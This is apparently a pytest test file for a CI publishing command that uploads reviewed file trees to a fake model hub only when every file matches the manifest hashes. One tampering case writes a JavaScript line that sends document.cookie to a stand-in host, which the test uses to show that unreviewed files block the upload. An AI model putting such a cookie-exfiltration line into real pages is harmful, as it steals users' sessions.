"""publish --from-tree: the CI publishing job uploads the trees the job without secrets wrote, only after
every file in them has the reviewed sha256, and it needs nothing but the packages of requirements-publish.lock.

The real client runs against tests/test_publish.py's FakeHub on 127.0.0.1. What is not covered: installing
requirements-publish.lock itself (that needs PyPI); here a guard refuses every import outside the standard
library and the lock's packages, which is what the publishing job's virtual environment holds.
"""

from __future__ import annotations

import importlib.metadata
import json
import os
import re
import shutil
import subprocess
import sys
import pytest

from conftest import REPO
from scripts.__main__ import main as cli
import test_card
import test_publish
from test_publish import TOKEN, all_files, manifest_of, publish_against, sha256

# pytest finds fixtures by their names in this module: the card and publish steps' own.
card_project, tiny_adapter_dir = test_card.card_project, test_card.tiny_adapter_dir
results_project, fake_hub = test_publish.results_project, test_publish.fake_hub


@pytest.fixture
def trees(results_project, monkeypatch):
    """The dry run's trees, moved where the publishing job downloads them; outputs/export is gone (no rebuild)."""
    monkeypatch.delenv("HF_TOKEN", raising=False)
    assert cli(["publish", "--dry-run", "--config", str(results_project)]) == 0
    outputs = results_project.parent / "outputs"
    tree = outputs / "reviewed-trees"
    shutil.move(outputs / "publish", tree)
    shutil.rmtree(outputs / "export")  # the publishing job never has it: nothing may be rebuilt there
    return tree


def test_a_tree_matching_the_manifest_is_a_clean_dry_run(results_project, trees, capsys):
    assert cli(["publish", "--from-tree", str(trees), "--config", str(results_project)]) == 0
    printed = capsys.readouterr().out
    assert "matches results/manifest.json; nothing was uploaded" in printed
    assert not (results_project.parent / "outputs" / "export").exists()  # nothing was rebuilt


@pytest.mark.parametrize("on_github", [True, False], ids=["github-actions", "laptop"])
def test_a_dry_run_on_github_says_where_the_publishing_credential_goes(results_project, trees, capsys, monkeypatch, on_github):
    """On a new copy the mentor merges the first results pull request before anyone has set HF_TOKEN or trusted
    publishing: the Publish run is a green dry run, and its summary (the output, tee'd) is all the learner reads."""
    if on_github:
        monkeypatch.setenv("GITHUB_ACTIONS", "true")
    else:
        monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    assert cli(["publish", "--from-tree", str(trees), "--config", str(results_project)]) == 0
    printed = " ".join(capsys.readouterr().out.split())
    assert "No HF_TOKEN is set, so this is a dry run" in printed
    hint = ("Settings > Environments > huggingface", "HF_TRUSTED_PUBLISHING = true", "Actions > Publish > Run workflow")
    assert all(words in printed for words in hint) == on_github, printed


@pytest.mark.parametrize("attack", ["edit", "delete", "extra", "symlink"])
def test_a_tree_that_differs_from_the_manifest_uploads_nothing(results_project, trees, fake_hub, attack):
    target = trees / "model" / "README.md"
    if attack == "edit":
        target.write_text(target.read_text() + "\nA line nobody reviewed.\n")
    elif attack == "delete":
        target.unlink()
    elif attack == "extra":
        (trees / "space" / "tracker.js").write_text("fetch('https://example.invalid/' + document.cookie)\n")
    else:
        outside = results_project.parent / "outside.md"
        outside.write_text(target.read_text())  # the same bytes, but a link to a file outside the tree
        target.unlink()
        target.symlink_to(outside)
    result = publish_against(fake_hub, results_project, "--from-tree", str(trees))
    output = result.stdout + result.stderr
    if attack == "symlink":
        # Refused earlier, by the manifest's own path rules (scripts/manifest.py): a link is bad input, exit 2.
        assert result.returncode == 2, output
        assert "the listed file 'README.md' is reached through a symbolic link; nothing is uploaded" in output, output
    else:
        assert result.returncode == 1, output
        assert "Nothing was published" in output
        expected = {"edit": "model/README.md: sha256 differs", "delete": "model/README.md: missing",
                    "extra": "space/tracker.js: not in results/manifest.json"}  # fmt: skip
        assert expected[attack] in output, output
    assert fake_hub.requests == []  # not even a repo was created


def test_the_tree_is_uploaded_exactly(results_project, trees, fake_hub):
    result = publish_against(fake_hub, results_project, "--from-tree", str(trees))
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert TOKEN not in output
    manifest = manifest_of(results_project)
    for name, entry in manifest["repos"].items():
        repo_type = entry["repo_type"]
        (commit,) = fake_hub.commits(repo_type, entry["repo_id"])
        assert {path: sha256(data) for path, data in commit["files"].items()} == {
            item["path"]: item["sha256"] for item in all_files(entry)
        }, name


# ---------------------------------------------------------------- the publishing job's packages are enough


def locked_import_names() -> set[str]:
    """Top-level module names of the distributions in requirements-publish.lock (as installed here)."""
    locked = set()
    for line in (REPO / "requirements-publish.lock").read_text().splitlines():
        match = re.match(r"^([A-Za-z0-9_.-]+)==", line)
        if match:
            locked.add(re.sub(r"[-_.]+", "-", match.group(1)).lower())
    names = set()
    for module, distributions in importlib.metadata.packages_distributions().items():
        if any(re.sub(r"[-_.]+", "-", d).lower() in locked for d in distributions):
            names.add(module)
    return names


GUARD = """
import runpy, sys
ALLOWED = set(sys.stdlib_module_names) | {"scripts", "_distutils_hack"} | set(sys.argv[1].split(","))
class OnlyTheLock:
    def find_spec(self, name, path=None, target=None):
        if name.partition(".")[0] not in ALLOWED:
            raise ModuleNotFoundError(f"the publishing job does not install {name}", name=name)
        return None
sys.meta_path.insert(0, OnlyTheLock())
sys.argv = ["scripts", *sys.argv[2:]]
runpy.run_module("scripts", run_name="__main__", alter_sys=True)
"""


def test_the_publishing_job_needs_nothing_outside_its_lock(results_project, trees, fake_hub, tmp_path):
    allowed = locked_import_names()
    assert "huggingface_hub" in allowed and "torch" not in allowed
    guard = tmp_path / "guard.py"
    guard.write_text(GUARD)
    environment = {key: value for key, value in os.environ.items() if not key.startswith("HF_") and "PROXY" not in key.upper()}
    environment.update(HF_ENDPOINT=fake_hub.url, HF_HUB_OFFLINE="0", HF_TOKEN=TOKEN, HF_HOME=str(tmp_path / "hf"),
                       NO_PROXY="127.0.0.1,localhost", PYTHONPATH=str(REPO))  # fmt: skip
    arguments = [",".join(sorted(allowed)), "publish", "--from-tree", str(trees), "--config", str(results_project)]
    result = subprocess.run([sys.executable, str(guard), *arguments], cwd=REPO, capture_output=True, text=True,
                            env=environment, timeout=120)  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    model = manifest_of(results_project)["repos"]["model"]
    assert len(fake_hub.commits("model", model["repo_id"])) == 1
    # The guard does refuse what it is not given (so the success above means something).
    arguments[0] = ",".join(sorted(allowed - {"huggingface_hub"}))
    refused = subprocess.run([sys.executable, str(guard), *arguments], cwd=REPO, capture_output=True, text=True,
                             env=environment, timeout=120)  # fmt: skip
    assert refused.returncode != 0 and "does not install huggingface_hub" in refused.stderr


def test_the_dry_run_plan_names_the_trees_the_publishing_job_checks(results_project, trees):
    plan = json.loads((trees / "plan.json").read_text())
    assert {repo["name"] for repo in plan["repos"]} == {path.name for path in trees.iterdir() if path.is_dir()}

